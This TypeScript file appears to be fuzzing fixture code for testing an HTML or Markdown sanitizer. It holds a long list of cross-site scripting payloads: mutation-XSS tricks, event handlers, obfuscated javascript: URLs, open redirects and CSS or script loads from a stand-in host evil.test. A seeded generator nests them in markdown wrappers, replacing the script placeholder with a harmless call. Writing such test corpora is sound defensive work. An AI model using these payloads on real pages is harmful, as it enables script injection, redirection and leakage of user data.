// Pieces of text that have run scripts, sent requests or changed the look of pages that trusted them, and a generator
// that puts them into each other. The same seed makes the same fragments. `{js}` is a call that the page would notice.

const handlers = ['onload', 'onerror', 'onclick', 'onfocus autofocus', 'onanimationstart', 'ontoggle open', 'onbegin']

const scripts = [
  '<script>{js}</script>',
  '<ScRiPt >{js}</sCrIpT>',
  '<scr<script>ipt>{js}</script>',
  '<script src=//evil.test/x.js></script>',
  '</script><script>{js}</script>',
  '</title><script>{js}</script>',
  '<!--><script>{js}</script>-->',
  '<![CDATA[<script>{js}</script>]]>',
  '<template><script>{js}</script></template>',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<textarea><img title="</textarea><img src=x onerror={js}>">',
  '<svg><script>{js}</script></svg>',
  '<svg/onload={js}>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x"/>',
  '<svg><style><img src=x onerror={js}></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
  '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:{js}">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={js} src>">',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe src="javascript:parent.{js}"></iframe>',
  '<object data="javascript:{js}"></object>',
  '<embed src="javascript:{js}">',
  '<details ontoggle={js} open>x</details>',
  '<input autofocus onfocus={js}>',
  '<video><source onerror={js}></video>',
  '<img src=https://evil.test/a.png>',
  '<img srcset="https://evil.test/a.png 1x">',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=https://evil.test/>',
  '<form action=https://evil.test/><button autofocus>x</button></form>',
  '<style>body{display:none}*{background:url(https://evil.test/x)}</style>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/y)">x</p>',
  '<x id=document name=cookie tabindex=0 onfocus={js}>',
  '<div dir=rtl class=hidden style=animation-name:spin onanimationstart={js}>x</div>',
  '{{constructor.constructor("{js}")()}}',
  '${{js}}',
  '&lt;img src=x onerror={js}&gt;',
  '&#60;img src=x onerror={js}&#62;',
  '\\u003cimg src=x onerror={js}\\u003e',
  '%3Cimg%20src=x%20onerror={js}%3E',
  '\u2028{js}\u2029',
  '\u202e<img src=x onerror={js}>',
  '__proto__',
  '"},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={js}>"}',
]

const addresses = [
  'javascript:{js}',
  'JaVaScRiPt:{js}',
  '\u0001javascript:{js}',
  'java\tscript:{js}',
  'java\nscript:{js}',
  'java&#10;script:{js}',
  '&#106;avascript:{js}',
  'jav&Tab;ascript:{js}',
  'javascript&colon;{js}',
  '%6aavascript:{js}',
  'javascript://evil.test/%0a{js}',
  'https:javascript:{js}',
  'https://x.uz/"onclick={js}',
  "https://x.uz/'onmouseover='{js}",
  'https://x.uz/><img/src/onerror={js}>',
  'https://olov.uz@evil.test',
  '//evil.test',
  '/\\evil.test',
  '/\t/evil.test',
  'data:text/html,<script>{js}</script>',
  'vbscript:{js}',
  'blob:null/x',
  'tel:1"onclick="{js}',
  'mailto:a@b?body=<script>{js}</script>',
]

const marks: ((inside: string) => string)[] = [
  (inside) => `**${inside}**`,
  (inside) => `*${inside}*`,
  (inside) => `# ${inside}`,
  (inside) => `1. ${inside}\n2. ${inside}`,
  (inside) => `- ${inside}`,
  (inside) => `| a | ${inside} |\n|---|---|\n| ${inside} | b |`,
  (inside) => `[${inside}](/about)`,
  (inside) => `[x](${inside})`,
  (inside) => `![x](${inside})`,
  (inside) => `<a href="${inside}">x</a>`,
  (inside) => `"'>${inside}`,
  (inside) => `<img src=x ${inside}>`,
  (inside) => `*/}${inside}/*`,
  (inside) => `]]>${inside}`,
]

export function hostileFragments(count: number, seed: number): string[] {
  let state = seed
  const below = (limit: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * limit)
  }
  const pick = <T>(from: readonly T[]): T => from[below(from.length)] as T
  const piece = () => {
    const kind = below(10)
    if (kind < 5) return pick(scripts)
    if (kind < 9) return `[x](${pick(addresses)})`
    return `<b ${pick(handlers)}={js}>`
  }
  return Array.from({ length: count }, (_, index) => {
    // Each piece occurs once by itself before they are combined.
    let fragment = index < scripts.length ? (scripts[index] ?? '') : piece()
    if (index >= scripts.length)
      for (let depth = below(4); depth > 0; depth--)
        fragment = pick(marks)(below(3) > 0 ? fragment : piece() + fragment)
    return fragment.replaceAll('{js}', 'ran()')
  })
}
